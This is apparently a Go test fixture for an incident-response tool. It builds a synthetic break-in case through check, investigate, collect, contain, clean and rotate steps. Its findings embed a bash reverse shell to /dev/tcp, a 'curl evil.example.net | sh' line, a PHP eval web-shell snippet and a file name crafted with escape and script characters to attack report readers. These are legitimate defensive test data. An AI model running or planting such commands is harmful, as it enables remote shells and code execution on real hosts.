package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/casedir"
	"github.com/nowwhat/nowwhat/internal/base/finding"
	"github.com/nowwhat/nowwhat/internal/detect/secrets"
	"github.com/nowwhat/nowwhat/internal/stage/check"
	"github.com/nowwhat/nowwhat/internal/stage/contain"
	"github.com/nowwhat/nowwhat/internal/stage/investigate"
	"github.com/nowwhat/nowwhat/internal/stage/rotate"
)

// T0 is the moment of the synthetic case's first check.
var T0 = time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)

// hostileName is a file name an intruder chose to hurt the reader: an escape sequence, Markdown
// and HTML metacharacters, a right-to-left override.
const hostileName = "/var/www/html/uploads/\x1b[31m*up*_load_<script>x</script>|[a](b)\u202e.php"

// caseParts says which steps the synthetic case holds.
type caseParts struct {
	check, investigate, collect, contain, clean, rotate bool
}

var fullCase = caseParts{check: true, investigate: true, collect: true, contain: true, clean: true, rotate: true}

// syntheticCase writes a case folder with known times: a brute-force break-in, a web shell and
// a reverse shell in cron, found by check at T0, investigated, collected, contained, cleaned.
func syntheticCase(t testing.TB, parts caseParts) *casedir.Case {
	t.Helper()
	c, err := casedir.Open(filepath.Join(t.TempDir(), "web1-case"))
	if err != nil {
		t.Fatal(err)
	}
	at := func(d time.Duration) time.Time { return T0.Add(d) }
	entry := func(e casedir.Entry) {
		e.Operator, e.UID, e.Machine = "alice (via sudo)", 0, "web1"
		if err := c.Append(e); err != nil {
			t.Fatal(err)
		}
	}
	saveAs := func(step string, tm time.Time, v any) casedir.Output {
		p, err := c.Path(filepath.Join(casedir.ResultsDir, step+"-"+tm.Format("20060102T150405.000000000Z")+".json"))
		if err != nil {
			t.Fatal(err)
		}
		data, _ := json.MarshalIndent(v, "", "  ")
		if err := os.WriteFile(p, append(data, '\n'), 0o600); err != nil {
			t.Fatal(err)
		}
		return casedir.FileOutput(p)
	}
	entryTime := at(-3*time.Hour + 41*time.Second)
	webshell := finding.Finding{Rule: "webshell.php", Severity: finding.Critical, Title: "PHP web shell", Path: hostileName, Strong: true,
		Evidence: []string{"eval(base64_decode($_POST['x']))", "sha256 " + "ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12"},
		Attack:   []string{"T1505.003"}, Action: "Quarantine the file with nowwhat clean, after collect", Time: at(-2 * time.Hour).Format(time.RFC3339)}
	cron := finding.Finding{Rule: "persistence.cron-reverse-shell", Severity: finding.Critical, Title: "cron job opens a reverse shell",
		Path: "/var/spool/cron/crontabs/deploy", User: "deploy", Strong: true,
		Evidence: []string{"/var/spool/cron/crontabs/deploy line 1: * * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
			"curl -s http://evil.example.net/x.sh | sh"},
		Attack: []string{"T1053.003", "T1059.004"}, Action: "Remove the cron line with nowwhat clean, after collect", Time: at(-2*time.Hour + 5*time.Minute).Format(time.RFC3339)}
	pkg := finding.Finding{Rule: "integrity.config-changed", Severity: finding.Medium, Title: "nginx.conf changed", Path: "/etc/nginx/nginx.conf",
		Explained: true, Explanation: "apt upgrade by bob at 2026-11-19 08:00", Evidence: []string{}, Attack: []string{}}
	chk := check.Report{Verdict: finding.Compromised, Summary: "COMPROMISED: 2 strong indicators", Findings: []finding.Finding{webshell, cron, pkg},
		Coverage: finding.Coverage{Root: "/", Live: true, Privileged: true, NotCovered: []string{"/proc/1234/exe: process gone while read"}, Counts: map[string]int{}},
		Host:     map[string]string{"hostname": "web1", "os": "Debian GNU/Linux 12 (bookworm)", "kernel": "6.1.0-28-amd64"}, Next: []string{}}
	if parts.check {
		out := saveAs("check", at(0), chk)
		entry(casedir.Entry{Time: at(0), Command: "check", Args: []string{"--case", c.Dir, "check"}, Target: "/", Outcome: "compromised",
			Detail: chk.Summary, Facts: map[string]string{"verdict": "compromised", "findings": "3"}, Outputs: []casedir.Output{out}})
	}
	if parts.contain {
		j := &contain.Journal{Path: filepath.Join(c.Dir, contain.JournalName)}
		id := "20261120T094000Z-lock-user-deploy-a1b2c3"
		for _, r := range []contain.Record{
			{ID: id, Time: at(10 * time.Minute).Format(time.RFC3339Nano), Operator: "alice (via sudo)", Phase: contain.PhaseIntent, Kind: "lock-user", Target: "deploy", Root: "/",
				What: []string{"lock deploy's password", "set deploy's shell to /usr/sbin/nologin"}},
			{ID: id, Time: at(10*time.Minute + time.Second).Format(time.RFC3339Nano), Operator: "alice (via sudo)", Phase: contain.PhaseApplied, Kind: "lock-user", Target: "deploy", Root: "/"},
		} {
			if err := j.Append(r); err != nil {
				t.Fatal(err)
			}
		}
		entry(casedir.Entry{Time: at(10*time.Minute + time.Second), Command: "lock-user", Args: []string{"--case", c.Dir, "contain", "lock-user", "deploy", "--apply"},
			Target: "/", Outcome: "applied", Detail: "lock deploy's password; set deploy's shell to /usr/sbin/nologin", Facts: map[string]string{"action": "lock-user deploy", "containment_id": id}})
	}
	if parts.collect {
		// Written to a USB disk on the responder's machine; its .sha256 was copied into the case.
		archive := "/media/usb/web1.tar.zst.age"
		sum := "5d41402abc4b2a76b9719d911017c592aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
		if err := os.WriteFile(filepath.Join(c.Dir, "web1.tar.zst.age.sha256"), []byte(sum+"  web1.tar.zst.age\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		entry(casedir.Entry{Time: at(20 * time.Minute), Command: "collect", Args: []string{"--case", c.Dir, "collect", "-o", archive, "--recipient", "age1xyz"},
			Target: "/", Outcome: "complete", Detail: "1234 items, sha256 " + sum, Facts: map[string]string{"sha256": sum, "items": "1234", "problems": "0"},
			Outputs: []casedir.Output{{Path: archive, SHA256: sum, Size: 1 << 20}}})
	}
	if parts.investigate {
		inv := investigate.Report{
			Entry: investigate.Entry{Vector: "ssh-bruteforce", Confidence: "high", SourceIPs: []string{"203.0.113.66"}, Users: []string{"deploy"}, Time: entryTime,
				Summary: "40 failed passwords from 203.0.113.66, then deploy logged in", Evidence: []string{"/var/log/auth.log line 42: sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"}},
			Narrative: []string{"Way in (high confidence): password guessing over SSH."},
			First:     entryTime, Last: at(-2*time.Hour + 5*time.Minute), Verdict: finding.Compromised,
			Timeline: []investigate.Event{
				{Time: at(-3 * time.Hour), Source: "auth", Event: "ssh-failed", Detail: "Failed password for admin from 203.0.113.66", IP: "203.0.113.66", User: "admin"},
				{Time: at(-3*time.Hour + 20*time.Second), Source: "auth", Event: "ssh-failed", Detail: "Failed password for oracle from 203.0.113.66", IP: "203.0.113.66", User: "admin"},
				{Time: entryTime, Source: "investigate", Event: "entry-point", Detail: "40 failed passwords from 203.0.113.66, then deploy logged in", IP: "203.0.113.66", User: "deploy", Malicious: true},
				{Time: at(-2 * time.Hour), Source: "check", Event: "webshell.php", Detail: "PHP web shell", Path: hostileName, Malicious: true},
				{Time: at(-2*time.Hour + 5*time.Minute), Source: "check", Event: "persistence.cron-reverse-shell", Detail: "cron job opens a reverse shell", Path: "/var/spool/cron/crontabs/deploy", User: "deploy", Malicious: true},
				{Time: at(-time.Hour), Source: "auth", Event: "ssh-login", Detail: "Accepted publickey for alice from 192.0.2.10", IP: "192.0.2.10", User: "alice"},
			},
			IOCs:    investigate.IOCs{IPs: []string{"203.0.113.66"}, Paths: []string{hostileName, "/var/spool/cron/crontabs/deploy"}, Hashes: []string{}, Keys: []string{"SHA256:Xk2nq6mYbQ0Cw3Jk8l1c3o5bYt0mVhQk7vUo4hJmPzI"}},
			Sources: []string{"/var/log/auth.log", "/var/log/nginx/access.log"}, Problems: []string{"/var/log/btmp: not found"},
			Findings: []finding.Finding{
				{Rule: "entry.ssh-bruteforce", Severity: finding.Critical, Title: "password guessing from 203.0.113.66 succeeded for deploy", User: "deploy", SourceIP: "203.0.113.66",
					Time: entryTime.Format(time.RFC3339), Attack: []string{"T1110.001", "T1078"}, Evidence: []string{"/var/log/auth.log line 42: sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"},
					Action: "Lock the account and rotate its password"},
				webshell, cron, pkg,
			},
		}
		out := saveAs("investigate", at(30*time.Minute), inv)
		entry(casedir.Entry{Time: at(30 * time.Minute), Command: "investigate", Args: []string{"--case", c.Dir, "investigate"}, Target: "/", Outcome: "ok",
			Detail: "way in: ssh-bruteforce (high)", Facts: map[string]string{"entry": "ssh-bruteforce", "confidence": "high"}, Outputs: []casedir.Output{out}})
	}
	if parts.clean {
		res := map[string]any{"summary": "2 items quarantined", "steps": []map[string]any{
			{"finding": "webshell.php", "what": "quarantine", "path": hostileName, "status": "applied"},
			{"finding": "persistence.cron-reverse-shell", "what": "remove cron line 1", "path": "/var/spool/cron/crontabs/deploy", "status": "applied"},
		}}
		out := saveAs("clean", at(50*time.Minute), res)
		entry(casedir.Entry{Time: at(50 * time.Minute), Command: "clean", Args: []string{"--case", c.Dir, "clean", "--apply"}, Target: "/", Outcome: "applied",
			Detail: "2 items quarantined", Outputs: []casedir.Output{out}})
	}
	if parts.rotate {
		res := rotate.Result{Command: "apply", Root: "/", Taken: at(time.Hour), Counts: map[string]int{"rotated": 1, "applied": 1, "gone": 1},
			Containment: "in force", Items: []rotate.Item{
				{Item: secrets.Item{ID: "password-1a2b", Kind: "password", Path: "/etc/shadow", Line: 23, Name: "password of deploy", Owner: "deploy", Fingerprint: "00ff00ff00ff00ff"}, State: rotate.StateRotated},
				{Item: secrets.Item{ID: "db-password-3c4d", Kind: "db-password", Path: "/var/www/html/wp-config.php", Line: 23, Name: "DB_PASSWORD", Owner: "www-data", App: "wordpress", Fingerprint: "11ee11ee11ee11ee"}, State: rotate.StateApplied},
				{Item: secrets.Item{ID: "ssh-authorized-key-5e6f", Kind: "ssh-authorized-key", Path: "/home/deploy/.ssh/authorized_keys", Line: 1, Name: "ssh-ed25519 key", Owner: "deploy", Known: "unknown"}, State: rotate.StateGone},
			},
			Actions: []rotate.ActionResult{{ID: "20261120T103000Z-db-password-wordpress", Kind: "db-password", Target: "wordpress", Items: []string{"db-password-3c4d"},
				What: []string{"new password for the wordpress database user", "wp-config.php updated"}, Applied: true}}}
		out := saveAs("rotate", at(time.Hour), res)
		entry(casedir.Entry{Time: at(time.Hour), Command: "rotate", Args: []string{"--case", c.Dir, "rotate", "--apply", "--recipient", "age1xyz"}, Target: "/", Outcome: "applied",
			Detail: "3 credentials", Facts: map[string]string{"rotated": "1", "applied": "1", "gone": "1"}, Outputs: []casedir.Output{out}})
	}
	return c
}
